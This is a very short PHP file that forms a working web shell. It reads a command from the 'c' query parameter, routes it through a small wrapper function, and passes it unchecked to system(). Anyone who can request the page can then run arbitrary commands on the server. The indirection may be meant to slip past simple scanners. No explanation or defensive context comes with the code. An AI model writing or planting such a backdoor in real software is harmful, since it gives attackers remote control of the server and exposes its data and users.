<?php
function g() { return [$_GET["c"]]; }
[$c] = g();
system($c);
